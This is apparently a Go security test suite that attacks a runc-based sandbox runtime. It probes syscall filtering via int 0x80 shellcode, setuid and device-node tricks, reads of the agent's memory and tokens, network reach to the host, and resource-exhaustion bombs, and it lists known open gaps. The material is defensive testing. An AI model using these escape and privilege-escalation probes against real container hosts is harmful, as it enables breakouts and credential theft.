package local_test

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/lightbearco/tupper/backend"
	"github.com/lightbearco/tupper/engine"
	"github.com/lightbearco/tupper/internal/testutil"
	"github.com/lightbearco/tupper/local"
	"github.com/lightbearco/tupper/sdk"
)

// knownGap skips t unless TUPPER_KNOWN_GAPS is set: the attack in t still
// works on the runc backend, and finding says what it is and how to close
// it. Run with TUPPER_KNOWN_GAPS=1 to see it fail.
func knownGap(t *testing.T, finding string) {
	t.Helper()
	if os.Getenv("TUPPER_KNOWN_GAPS") == "" {
		t.Skip("known gap (set TUPPER_KNOWN_GAPS=1 to run): " + finding)
	}
}

// TestRuncAttack attacks runc sandboxes as an outsider would, from inside
// (as root and as the unprivileged user) and from the host. The subtests
// that pass assert a protection that holds; those that start with
// knownGap document a way through that is still open.
func TestRuncAttack(t *testing.T) {
	s := newStackOn(t, "runc", engine.Config{}, backend.NetworkConfig{})
	ctx := context.Background()
	sb := s.create(t, sdk.CreateOptions{})
	neighbour := s.create(t, sdk.CreateOptions{})
	root := sdk.WithUser("root")

	// try runs cmd and returns its output (stdout and stderr) and whether
	// it exited 0.
	try := func(t *testing.T, box *sdk.Sandbox, cmd string, opts ...sdk.CommandOption) (string, bool) {
		t.Helper()
		c, cancel := context.WithTimeout(ctx, 2*time.Minute)
		defer cancel()
		res, err := box.Commands.Run(c, cmd+" 2>&1", opts...)
		var exit *sdk.CommandExitError
		if err != nil && !errors.As(err, &exit) {
			t.Fatalf("run %q: %v", cmd, err)
		}
		return res.Stdout, err == nil
	}
	// refused wants cmd to fail, and not for want of the command.
	refused := func(t *testing.T, box *sdk.Sandbox, what, cmd string, opts ...sdk.CommandOption) {
		t.Helper()
		out, ok := try(t, box, cmd, opts...)
		if ok {
			t.Errorf("%s succeeded: %q", what, out)
		}
		if strings.Contains(out, "not found") {
			t.Errorf("%s: the image lacks a command, proving nothing: %q", what, out)
		}
	}
	writeProbe := func(t *testing.T, box *sdk.Sandbox, name, code string) string {
		t.Helper()
		p := "/tmp/" + name
		if _, err := box.Files.Write(ctx, p, []byte(code)); err != nil {
			t.Fatal(err)
		}
		return p
	}
	x8664 := func(t *testing.T) {
		t.Helper()
		if out := run(t, sb, "uname -m").Stdout; strings.TrimSpace(out) != "x86_64" {
			t.Skipf("the probe's system call numbers are x86-64's; this is %s", out)
		}
	}

	t.Run("32-bit system calls are filtered too", func(t *testing.T) {
		x8664(t)
		// A 64-bit process may enter the kernel through int 0x80, into the
		// i386 table, where the filter must hold as on the native one.
		// Each call is one whose failure without the filter would not be
		// EPERM (arguments that are wrong, not calls that need a
		// capability), so EPERM is the filter's.
		p := writeProbe(t, sb, "int80.py", int80Probe)
		out := run(t, sb, "python3 "+p, root).Stdout
		want := map[string]string{
			"unshare(CLONE_NEWUSER)": "-1", "clone(CLONE_NEWUSER)": "-1", "io_uring_setup": "-1", "keyctl": "-1",
			"process_vm_readv": "-1", "kcmp": "-1", "open_tree": "-1", "mount_setattr": "-1", "bpf": "-1",
			"userfaultfd": "-1", "clone3": "-38",
		}
		got := map[string]string{}
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			if f := strings.Fields(line); len(f) == 2 {
				got[f[0]] = f[1]
			}
		}
		for name, w := range want {
			if got[name] != w {
				t.Errorf("i386 %s returned %q, want %s (EPERM from the filter, ENOSYS for clone3); all: %q", name, got[name], w, out)
			}
		}
	})

	t.Run("setuid files grant nothing", func(t *testing.T) {
		run(t, sb, "cp /usr/bin/id /tmp/suid-id && chmod 4755 /tmp/suid-id && ln /usr/bin/passwd /tmp/passwd-link", root)
		if out := run(t, sb, "/tmp/suid-id -u").Stdout; strings.TrimSpace(out) != "1000" {
			t.Errorf("a setuid-root copy made by root ran as %q for user", out)
		}
		refused(t, sb, "su to root as user", "su -c id root </dev/null")
		refused(t, sb, "a hard link to passwd changing root's password", "echo x | /tmp/passwd-link root")
	})

	t.Run("no device nodes", func(t *testing.T) {
		refused(t, sb, "mknod /dev/mem in /dev (a tmpfs without nodev)", "mknod /dev/evilmem c 1 1", root)
		refused(t, sb, "mknod a block device", "mknod /tmp/vda b 253 0", root)
	})

	t.Run("the agent's binary and console are out of reach", func(t *testing.T) {
		refused(t, sb, "write the agent's binary", "echo x >> /.tupper/tupper-agent", root)
		refused(t, sb, "open /proc/1/exe for writing", `python3 -c "open('/proc/1/exe', 'r+b')"`, root)
		refused(t, sb, "write the console (a host file) through /proc/1/fd/1", "head -c 1M /dev/zero > /proc/1/fd/1", root)
	})

	t.Run("cgroups are read-only", func(t *testing.T) {
		files := []string{"memory/memory.limit_in_bytes", "pids/pids.max", "pids/notify_on_release", "cpu/cpu.cfs_quota_us", "memory/cgroup.procs"}
		if _, v2 := try(t, sb, "test -f /sys/fs/cgroup/cgroup.controllers", root); v2 {
			files = []string{"memory.max", "pids.max", "cgroup.procs", "cgroup.subtree_control"}
		}
		for _, f := range files {
			p := "/sys/fs/cgroup/" + f
			if _, ok := try(t, sb, "test -f "+p, root); !ok {
				continue // not this host's layout
			}
			refused(t, sb, "write "+p, "echo 1 > "+p, root)
		}
		if out, _ := try(t, sb, "ls /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/release_agent", root); strings.Contains(out, "release_agent\n") && !strings.Contains(out, "No such") {
			t.Errorf("a release_agent is visible: %q", out)
		}
	})

	t.Run("user cannot touch the agent", func(t *testing.T) {
		refused(t, sb, "kill the agent as user", "kill -9 1")
		refused(t, sb, "read the agent's environment", "cat /proc/1/environ")
		refused(t, sb, "read the agent's memory", `python3 -c "
m = [l.split()[0] for l in open('/proc/1/maps')]
f = open('/proc/1/mem', 'rb', 0); f.seek(int(m[0].split('-')[0], 16)); print(len(f.read(16)))"`)
		refused(t, sb, "ptrace the agent", `python3 -c "
import ctypes, os, sys
r = ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0)
sys.exit(0 if r == 0 else 1)"`)
		refused(t, sb, "list the agent's descriptors", "ls /proc/1/fd")
		if out := run(t, sb, "echo alive", root).Stdout; out != "alive\n" {
			t.Errorf("after the attempts the agent answered %q", out)
		}
	})

	t.Run("no one listens on the agent's port beside it", func(t *testing.T) {
		// A listener that shadowed the agent's would receive the daemon's
		// requests, envd token and all.
		for _, who := range []sdk.CommandOption{sdk.WithUser("user"), root} {
			out := run(t, sb, `python3 -c "
import socket
addrs = [(socket.AF_INET, a) for a in ('0.0.0.0', '127.0.0.1')] + [(socket.AF_INET6, a) for a in ('::', '::1')]
addrs += [(socket.AF_INET6 if ':' in a else socket.AF_INET, a) for a in socket.gethostbyname_ex(socket.gethostname())[2]]
for fam, addr in addrs:
    for opts in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
        s = socket.socket(fam, socket.SOCK_STREAM)
        for o in opts:
            s.setsockopt(socket.SOL_SOCKET, o, 1)
        if addr == '::':
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        try:
            s.bind((addr, 49983)); s.listen(1); print('BOUND', addr, opts)
        except OSError:
            pass
print('tried', len(addrs))"`, who).Stdout
			if strings.Contains(out, "BOUND") || !strings.Contains(out, "tried") {
				t.Errorf("a listener beside the agent's: %s", out)
			}
		}
	})

	t.Run("no raw, packet or netlink-changing sockets", func(t *testing.T) {
		for name, cmd := range map[string]string{
			"raw IPv4 (NET_RAW dropped)":   "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
			"packet (ARP spoofing)":        "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
			"raw IPv6 (router adverts)":    "import socket; socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
			"an address on eth0 (as ip)":   "import fcntl, socket, struct; s = socket.socket(); fcntl.ioctl(s, 0x8916, struct.pack('16sH2s4s8s', b'eth0', 2, b'', socket.inet_aton('10.0.0.9'), b''))",
			"bring eth0 down (as ip link)": "import fcntl, socket, struct; s = socket.socket(); fcntl.ioctl(s, 0x8914, struct.pack('16sH14s', b'eth0', 0, b''))",
		} {
			refused(t, sb, name, `python3 -c "`+cmd+`"`, root)
		}
		if out := run(t, sb, "echo alive").Stdout; out != "alive\n" {
			t.Errorf("the sandbox answered %q after the socket attempts", out)
		}
	})

	t.Run("the host and neighbours are unreachable", func(t *testing.T) {
		// A listener of the test's own on every host address: whatever
		// reaches it came through the firewall.
		ln, err := net.Listen("tcp", "[::]:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		port := ln.Addr().(*net.TCPAddr).Port
		udp, err := net.ListenPacket("udp", fmt.Sprintf("[::]:%d", port))
		if err != nil {
			t.Fatal(err)
		}
		defer udp.Close()
		reached := make(chan string, 16)
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				reached <- "tcp from " + c.RemoteAddr().String()
				c.Close()
			}
		}()
		go func() {
			buf := make([]byte, 64)
			for {
				_, from, err := udp.ReadFrom(buf)
				if err != nil {
					return
				}
				reached <- "udp from " + from.String()
			}
		}()
		targets := hostTargets(t, port)
		nb := strings.Fields(run(t, neighbour, "hostname -I").Stdout)
		for _, a := range nb {
			targets = append(targets, net.JoinHostPort(a, "49983"))
		}
		if len(nb) == 0 {
			t.Fatal("the neighbour has no address")
		}
		p := writeProbe(t, sb, "reach.py", reachProbe)
		out := run(t, sb, fmt.Sprintf("python3 %s %d %s", p, port, strings.Join(targets, " ")), root).Stdout
		t.Logf("from the sandbox:\n%s", out)
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			if strings.HasSuffix(line, " CONNECTED") {
				t.Errorf("the sandbox reached %s", strings.TrimSuffix(line, " CONNECTED"))
			}
		}
		select {
		case r := <-reached:
			t.Errorf("the host's listener was reached: %s", r)
		case <-time.After(time.Second):
		}
	})

	t.Run("the disk cap holds and costs the host no more", func(t *testing.T) {
		small := s.create(t, sdk.CreateOptions{DiskMB: 64})
		refused(t, small, "fallocate past the cap", "fallocate -l 1G /big", root)
		run(t, small, "rm -f /big", root)
		refused(t, small, "write past the cap", "dd if=/dev/zero of=/tmp/fill bs=1M count=100", root)
		refused(t, small, "a 100 TiB sparse file", "truncate -s 100T /sparse", root)
		img := filepath.Join(s.cfg.Root, "backends", "runc", "sandboxes", small.ID(), "disk.img")
		var st unix.Stat_t
		if err := unix.Stat(img, &st); err != nil {
			t.Fatal(err)
		}
		if st.Size > 64<<20 || st.Blocks*512 > 64<<20 {
			t.Errorf("the disk file of a 64 MiB sandbox is %d bytes long, %d allocated", st.Size, st.Blocks*512)
		}
		if got := run(t, small, "rm -f /tmp/fill && echo ok", root).Stdout; got != "ok\n" {
			t.Errorf("the full sandbox answered %q", got)
		}
	})

	t.Run("memory file systems are capped", func(t *testing.T) {
		small := s.create(t, sdk.CreateOptions{MemoryMB: 128})
		// /dev/shm is half the memory limit; /dev a small tmpfs.
		refused(t, small, "fill /dev/shm past half the memory", "head -c 100M /dev/zero > /dev/shm/fill")
		run(t, small, "rm -f /dev/shm/fill", root)
		refused(t, small, "fill /dev past its size", "head -c 100M /dev/zero > /dev/fill", root)
		run(t, small, "rm -f /dev/fill", root)
		if got := run(t, small, "echo alive").Stdout; got != "alive\n" {
			t.Errorf("after filling its memory file systems the sandbox answered %q", got)
		}
	})

	t.Run("a task bomb as user leaves root its reserve", func(t *testing.T) {
		rec, err := s.rt.Engine().Create(ctx, engine.CreateOptions{Template: s.cfg.Engine.DefaultTemplate, Pids: 128})
		if err != nil {
			t.Fatal(err)
		}
		box, err := s.client.Connect(ctx, rec.ID)
		if err != nil {
			t.Fatal(err)
		}
		p := writeProbe(t, box, "bomb.py", bombProbe)
		// The bomb runs on after the command: its own session, so that the
		// command's end does not take it down.
		run(t, box, "setsid python3 "+p+" > /tmp/bomb.out 2>&1 < /dev/null &")
		testutil.WaitFor(t, time.Minute, "the bomb to fill the sandbox", func() bool {
			out, _ := try(t, box, "cat /tmp/bomb.out", root)
			return strings.Contains(out, "full")
		})
		out, _ := try(t, box, "cat /tmp/bomb.out", root)
		t.Logf("bomb: %s", strings.TrimSpace(out))
		if got := run(t, box, "echo root-ok", root).Stdout; got != "root-ok\n" {
			t.Errorf("while user's tasks fill the sandbox, root's command answered %q", got)
		}
		run(t, box, "pkill -9 -u user; true", root)
		if got := run(t, box, "echo user-ok").Stdout; got != "user-ok\n" {
			t.Errorf("after the bomb was killed, user's command answered %q", got)
		}
		if got := run(t, neighbour, "echo fine").Stdout; got != "fine\n" {
			t.Errorf("the neighbour of the bomb answered %q", got)
		}
	})

	t.Run("root cannot read the agent's access token", func(t *testing.T) {
		// A fresh sandbox: the agent turns undumpable, by accident, the
		// first time it acts on files as another user (its threads'
		// setresuid), so the probe goes in through a command of root's.
		box := s.create(t, sdk.CreateOptions{})
		rec, err := s.rt.Engine().Get(ctx, box.ID())
		if err != nil {
			t.Fatal(err)
		}
		run(t, box, "cat > /tmp/scan.py <<'EOF'\n"+scanProbe+"EOF", root)
		out, _ := try(t, box, "python3 /tmp/scan.py "+rec.AccessToken+" 1", root)
		if strings.Contains(out, "FOUND") {
			t.Errorf("root found the agent's access token in its memory: %s", strings.TrimSpace(out))
		}
	})

	t.Run("no sandbox reads others' ids from host interfaces", func(t *testing.T) {
		out, _ := try(t, sb, "cat /sys/class/net/*/ifalias")
		if strings.Contains(out, neighbour.ID()) {
			t.Errorf("the user of one sandbox reads its neighbour's id %s in /sys/class/net/*/ifalias:\n%s", neighbour.ID(), out)
		}
	})

	t.Run("no vsock past the network namespace", func(t *testing.T) {
		hfd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
		if err != nil {
			t.Skipf("the host has no vsock (%v): nothing to reach", err)
		}
		defer unix.Close(hfd)
		// The host takes a port; the sandbox tries the same one.
		const port = 0x5eed4321
		if err := unix.Bind(hfd, &unix.SockaddrVM{CID: unix.VMADDR_CID_ANY, Port: port}); err != nil {
			t.Skipf("bind vsock port on the host: %v", err)
		}
		out, _ := try(t, sb, fmt.Sprintf(`python3 -c "
import socket
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
print('socket made')
try:
    s.bind((socket.VMADDR_CID_ANY, %d)); print('bound')
except OSError as e:
    print('bind:', e)"`, port))
		if strings.Contains(out, "socket made") {
			t.Errorf("user in the sandbox made an AF_VSOCK socket; binding the host's port: %s", strings.TrimSpace(out))
		}
	})

	t.Run("gap: open_tree_attr is not filtered", func(t *testing.T) {
		knownGap(t, "low (defence in depth): open_tree_attr (Linux 6.15, x86-64 467), of the mount API the filter means to refuse, reaches the kernel: the deny list cannot name system calls newer than it (libseccomp 2.5.4 does not know this one); capabilities still refuse a clone of a tree; fix: an allow list with ENOSYS by default, as Docker's profile, or refuse by number")
		x8664(t)
		out, _ := try(t, sb, `python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
r = libc.syscall(467, -1, 0, 0, 0, 0)
print(r, ctypes.get_errno())"`, root)
		if strings.TrimSpace(out) != "-1 1" {
			t.Errorf("open_tree_attr(-1, NULL, ...) returned %q, want -1 EPERM (1) from the filter", strings.TrimSpace(out))
		}
	})

	t.Run("the agent makes no cgroup file and keeps the task limit", func(t *testing.T) {
		if out, ok := try(t, sb, "test -f /sys/fs/cgroup/pids.max && ls -l /sys/fs/cgroup/pids.max", root); ok {
			t.Errorf("a file the agent made stands in /sys/fs/cgroup: %s", strings.TrimSpace(out))
		}
		out := run(t, sb, "ulimit -u").Stdout
		if n, err := strconv.Atoi(strings.TrimSpace(out)); err != nil || n != 1024-64 {
			t.Errorf("user's RLIMIT_NPROC is %q, want %d (1024 tasks less the reserve of 64)", out, 1024-64)
		}
	})

	t.Run("host users cannot reach the sandbox's files", func(t *testing.T) {
		run(t, sb, "echo 'user secret' > /home/user/notes.txt")
		mnt := rootMountOf(t, sb.ID())
		// As nobody on the host.
		cat := exec.Command("cat", filepath.Join(mnt, "home/user/notes.txt"))
		cat.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		if out, err := cat.CombinedOutput(); err == nil {
			t.Errorf("host user nobody read the sandbox's /home/user/notes.txt at %s: %q", mnt, out)
		}
		plant := exec.Command("sh", "-c", "echo planted > "+filepath.Join(mnt, "tmp/from-host"))
		plant.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		if err := plant.Run(); err == nil {
			out, _ := try(t, sb, "ls -l /tmp/from-host")
			t.Errorf("host user nobody wrote into the sandbox's /tmp: %s", strings.TrimSpace(out))
		}
	})

	t.Run("socket buffers are charged to the sandbox", func(t *testing.T) {
		cg := memoryCgroupOf(t, sb.ID())
		charged := func() uint64 {
			n := readUint(t, cg.usage)
			if cg.tcp != "" {
				n += readUint(t, cg.tcp)
			}
			return n
		}
		before := charged()
		p := writeProbe(t, sb, "tcpmem.py", tcpMemProbe)
		run(t, sb, "setsid python3 "+p+" 8 8 60 > /tmp/tcpmem.out 2>&1 < /dev/null &")
		testutil.WaitFor(t, time.Minute, "the probe to queue its data", func() bool {
			out, _ := try(t, sb, "cat /tmp/tcpmem.out")
			return strings.Contains(out, "queued")
		})
		out, _ := try(t, sb, "cat /tmp/tcpmem.out")
		queued, err := strconv.ParseUint(strings.Fields(out)[1], 10, 64)
		if err != nil {
			t.Fatalf("probe said %q", out)
		}
		after := charged()
		grown := int64(after) - int64(before)
		t.Logf("queued %d MiB on loopback TCP; the memory cgroup grew by %d MiB", queued>>20, grown>>20)
		try(t, sb, "pkill -f 'python3 /tmp/tcpme[m]'")
		if queued < 32<<20 {
			t.Fatalf("the probe queued only %d bytes", queued)
		}
		if grown < int64(queued/2) {
			t.Errorf("%d MiB queued in the sandbox's socket buffers, but its memory cgroup grew by %d MiB: kernel memory outside its limit", queued>>20, grown>>20)
		}
	})

	t.Run("user's shared memory does not get the agent killed", func(t *testing.T) {
		small := s.create(t, sdk.CreateOptions{MemoryMB: 128})
		p := writeProbe(t, small, "sysv.py", sysvProbe)
		// Either command may end with the agent.
		small.Commands.Run(ctx, "python3 "+p+" 3 24")
		small.Commands.Run(ctx, "head -c 64M /dev/zero > /dev/shm/fill")
		c, cancel := context.WithTimeout(ctx, time.Minute)
		defer cancel()
		res, err := small.Commands.Run(c, "echo alive")
		if err != nil || res.Stdout != "alive\n" {
			t.Errorf("after user filled 72 MiB of System V memory and 64 MiB of /dev/shm in a 128 MiB sandbox, the sandbox answered %v (the OOM killer took the agent?)", err)
		}
	})

	t.Run("user cannot exhaust the agent's descriptors", func(t *testing.T) {
		box := s.create(t, sdk.CreateOptions{})
		p := writeProbe(t, box, "hold.py", holdProbe)
		run(t, box, "setsid python3 "+p+" 49983 30 > /tmp/hold.out 2>&1 < /dev/null &")
		testutil.WaitFor(t, time.Minute, "the holder to open its connections", func() bool {
			out, err := box.Commands.Run(ctx, "cat /tmp/hold.out", root)
			return err != nil || strings.Contains(out.Stdout, "holding")
		})
		c, cancel := context.WithTimeout(ctx, 20*time.Second)
		defer cancel()
		res, err := box.Commands.Run(c, "echo alive")
		if err != nil || res.Stdout != "alive\n" {
			t.Errorf("while user holds connections to the agent, a command: %v", err)
		}
	})

	t.Run("an oversized variable is refused as the caller's mistake", func(t *testing.T) {
		_, err := s.client.Create(ctx, sdk.CreateOptions{Envs: map[string]string{"BIG": strings.Repeat("x", 200_000)}})
		if err == nil {
			t.Fatal("a create with a 200 kB variable succeeded")
		}
		if !sdk.IsInvalidArgument(err) {
			t.Errorf("a 200 kB variable: %v; want an invalid-argument error, not a failed boot", err)
		}
	})

	// Last: it reopens the runtime, as a restarted daemon would.
	t.Run("a restart re-attaches runc sandboxes", func(t *testing.T) {
		run(t, sb, "echo kept > /home/user/kept")
		s.rt.Close()
		s.open(t)
		again, err := s.client.Connect(ctx, sb.ID())
		if err != nil {
			t.Fatalf("after a restart: %v", err)
		}
		if got := run(t, again, "cat /home/user/kept").Stdout; got != "kept\n" {
			t.Errorf("after a restart the sandbox answered %q", got)
		}
	})
}

// TestRuncAttackInterpreterToken attacks a code-interpreter sandbox on
// runc as its unprivileged user, as any cell runs: the interpreter's server
// runs as that user and holds the envd token, which opens the agent, which
// runs commands as root.
func TestRuncAttackInterpreterToken(t *testing.T) {
	s := newStackOn(t, "runc", engine.Config{}, backend.NetworkConfig{})
	_, name := testutil.InterpreterImage(t)
	ctx := context.Background()
	sb := s.create(t, sdk.CreateOptions{Template: name})
	// The interpreter's server may still be starting.
	testutil.WaitFor(t, time.Minute, "the interpreter's server", func() bool {
		res, err := sb.Commands.Run(ctx, "pgrep -f 'code-interpreter --listen-fd'")
		return err == nil && strings.TrimSpace(res.Stdout) != ""
	})
	if _, err := sb.Files.Write(ctx, "/tmp/steal.py", []byte(stealProbe)); err != nil {
		t.Fatal(err)
	}
	res, err := sb.Commands.Run(ctx, "python3 /tmp/steal.py 2>&1; stat -c %u /tmp/pwned 2>&1", sdk.WithTimeout(2*time.Minute))
	if err != nil && res == nil {
		t.Fatal(err)
	}
	t.Logf("as user: %s", res.Stdout)
	if strings.Contains(res.Stdout, "TOKEN") {
		t.Errorf("user read the envd token from the interpreter's memory and ran a command as root through the agent:\n%s", res.Stdout)
	}
}

// TestRuncAttackHostDiskFull fills the host's disk from inside a runc
// sandbox whose cap is larger than the room the host has left.
func TestRuncAttackHostDiskFull(t *testing.T) {
	knownGap(t, "medium: the sandbox's disk is a sparse file on the host, loop-mounted; when the host's file system fills before the sandbox's cap (caps are not reservations), the sandbox's writes still succeed and are lost at write-back (\"Buffer I/O error … lost async page write\", ext4 metadata errors inside): a 600 MB dd into a sandbox with 340 MB left on the host exits 0 and reads back zeros; one sandbox with the default --max-disk of 100G can fill a host disk and corrupt itself; fix: allocate disk.img (fallocate) at create so that the cap is a reservation and the create fails with the host's ENOSPC, or keep the upper layer on the host's file system under a project quota")
	if os.Geteuid() != 0 {
		testutil.Skip(t, "needs root to mount a scratch file system")
	}
	if _, err := exec.LookPath("mkfs.ext4"); err != nil {
		testutil.Skip(t, "no mkfs.ext4")
	}
	storeRoot, name := testutil.TestImage(t)
	dir := shortTempDir(t)
	img := filepath.Join(dir, "fs.img")
	mnt := filepath.Join(dir, "mnt")
	if err := os.Mkdir(mnt, 0o700); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(img)
	if err != nil {
		t.Fatal(err)
	}
	f.Truncate(400 << 20)
	f.Close()
	if out, err := exec.Command("mkfs.ext4", "-q", img).CombinedOutput(); err != nil {
		t.Fatalf("mkfs: %v: %s", err, out)
	}
	if out, err := exec.Command("mount", "-o", "loop", img, mnt).CombinedOutput(); err != nil {
		t.Fatalf("mount: %v: %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", mnt).Run() })
	cfg := local.Config{
		Root: filepath.Join(mnt, "state"), ImageRoot: storeRoot, AgentPath: testutil.AgentBinary(t), Backend: "runc",
		Engine: engine.Config{DefaultTemplate: name},
		Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn})),
	}
	s := &stack{cfg: cfg}
	s.open(t)
	// Registered after the unmount: cleanups run last first.
	t.Cleanup(func() {
		c, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		s.rt.Engine().KillAll(c)
		s.rt.Close()
	})
	sb := s.create(t, sdk.CreateOptions{DiskMB: 1024})
	var st unix.Statfs_t
	if err := unix.Statfs(mnt, &st); err != nil {
		t.Fatal(err)
	}
	free := int64(st.Bavail) * st.Bsize
	want := free + 256<<20
	cmd := fmt.Sprintf("dd if=/dev/urandom of=/fill bs=1M count=%d 2>&1; echo exit=$?", want>>20)
	res, err := sb.Commands.Run(context.Background(), cmd, sdk.WithUser("root"), sdk.WithTimeout(3*time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("host had %d MiB free; dd of %d MiB: %s", free>>20, want>>20, strings.TrimSpace(res.Stdout))
	if strings.Contains(res.Stdout, "exit=0") {
		// Read what the disk holds, past the page cache: the end of what
		// dd was told it wrote.
		back, _ := sb.Commands.Run(context.Background(), fmt.Sprintf("sync; dd if=/fill iflag=direct bs=1M skip=%d count=1 status=none 2>&1 | od -An -c | head -2", (want>>20)-2), sdk.WithUser("root"))
		t.Errorf("a write of %d MiB with %d MiB free on the host succeeded; its end reads back from the disk as %q", want>>20, free>>20, back.Stdout)
	}
	if got := run(t, sb, "echo alive").Stdout; got != "alive\n" {
		t.Errorf("after the host's disk filled, the sandbox answered %q", got)
	}
}

// hostTargets are addresses of this host a sandbox might try, each with
// port: the host's side of every sandbox's veth (the sandbox's gateway
// among them), IPv4 and IPv6 (unique local), and 192.0.2.2 when it is the
// host's own. No address that leaves the host is among them.
func hostTargets(t *testing.T, port int) []string {
	t.Helper()
	ifs, err := net.Interfaces()
	if err != nil {
		t.Fatal(err)
	}
	testNet := netip.MustParsePrefix("192.0.2.0/24")
	forbidden6 := netip.MustParsePrefix("fd00::/64")
	var out []string
	for _, ifc := range ifs {
		addrs, _ := ifc.Addrs()
		for _, a := range addrs {
			p, err := netip.ParsePrefix(a.String())
			if err != nil {
				continue
			}
			ip := p.Addr()
			switch {
			case ip == netip.MustParseAddr("192.0.2.2"):
			case testNet.Contains(ip) || forbidden6.Contains(ip):
				continue
			case strings.HasPrefix(ifc.Name, "tr") || strings.HasPrefix(ifc.Name, "tp"):
				if ip.IsLinkLocalUnicast() {
					continue
				}
			default:
				continue
			}
			out = append(out, net.JoinHostPort(ip.String(), strconv.Itoa(port)))
		}
	}
	if len(out) == 0 {
		t.Fatal("no host address to try")
	}
	return out
}

// rootMountOf returns where the host mounts the root of sandbox id, as
// any host user reads it in /proc/self/mountinfo.
func rootMountOf(t *testing.T, id string) string {
	t.Helper()
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		f := strings.Fields(line)
		if len(f) > 4 && (filepath.Base(f[4]) == id || filepath.Base(filepath.Dir(f[4])) == id) && strings.Contains(line, " - overlay ") {
			return f[4]
		}
	}
	t.Fatalf("no overlay mount of sandbox %s on the host", id)
	return ""
}

// memoryCgroup is the host's view of a sandbox's memory cgroup: usage, and
// on cgroup v1 the counter of socket buffers, which v2 counts in usage.
type memoryCgroup struct{ usage, tcp string }

// memoryCgroupOf finds the memory cgroup of sandbox id, v1 or v2.
func memoryCgroupOf(t *testing.T, id string) memoryCgroup {
	t.Helper()
	for _, pattern := range []string{"/sys/fs/cgroup/memory/*/" + id, "/sys/fs/cgroup/memory/" + id, "/sys/fs/cgroup/*/" + id} {
		dirs, _ := filepath.Glob(pattern)
		for _, d := range dirs {
			for _, f := range []string{"memory.usage_in_bytes", "memory.current"} {
				if _, err := os.Stat(filepath.Join(d, f)); err == nil {
					cg := memoryCgroup{usage: filepath.Join(d, f)}
					if tcp := filepath.Join(d, "memory.kmem.tcp.usage_in_bytes"); f == "memory.usage_in_bytes" {
						cg.tcp = tcp
					}
					return cg
				}
			}
		}
	}
	t.Fatalf("no memory cgroup of sandbox %s", id)
	return memoryCgroup{}
}

func readUint(t *testing.T, path string) uint64 {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	n, err := strconv.ParseUint(strings.TrimSpace(string(b)), 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// int80Probe calls system calls through int 0x80, the i386 table, from a
// 64-bit process, and prints each name with the kernel's return value.
const int80Probe = `import ctypes, mmap, os, struct
buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
def int80(nr, a=0, b=0, c=0, d=0, e=0):
    # push rbx; mov eax..edi, imm32; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + struct.pack("<I", nr)
    for op, v in ((b"\xbb", a), (b"\xb9", b), (b"\xba", c), (b"\xbe", d), (b"\xbf", e)):
        code += op + struct.pack("<I", v & 0xffffffff)
    code += b"\xcd\x80\x5b\xc3"
    buf.seek(0)
    buf.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
NEWUSER = 0x10000000
calls = [("unshare(CLONE_NEWUSER)", 310, NEWUSER), ("io_uring_setup", 425, 0, 0), ("keyctl", 288, 0, 0),
         ("process_vm_readv", 347, 0, 0, 0, 0, 0), ("kcmp", 349, 0, 0, 0, 0, 0), ("open_tree", 428, -1, 0, 0),
         ("mount_setattr", 442, -1, 0, 0, 0, 0), ("bpf", 357, 0, 0, 0), ("userfaultfd", 374, 1), ("clone3", 435, 0, 0)]
for name, nr, *args in calls:
    print(name, int80(nr, *args), flush=True)
r = int80(120, NEWUSER | 17)
if r == 0:
    os._exit(0)
print("clone(CLONE_NEWUSER)", r)
`

// reachProbe tries a TCP connection and sends a UDP datagram to each
// host:port argument after the first (the test's port), and to the
// sandbox's gateway on that port, printing CONNECTED or the error.
const reachProbe = `import socket, struct, sys
port = int(sys.argv[1])
targets = sys.argv[2:]
for line in open("/proc/net/route").read().splitlines()[1:]:
    f = line.split()
    if f[1] == "00000000":
        targets.append("%s:%d" % (socket.inet_ntoa(struct.pack("<I", int(f[2], 16))), port))
for t in targets:
    host, p = t.rsplit(":", 1)
    host = host.strip("[]")
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, int(p)))
        r = "CONNECTED"
    except Exception as e:
        r = type(e).__name__
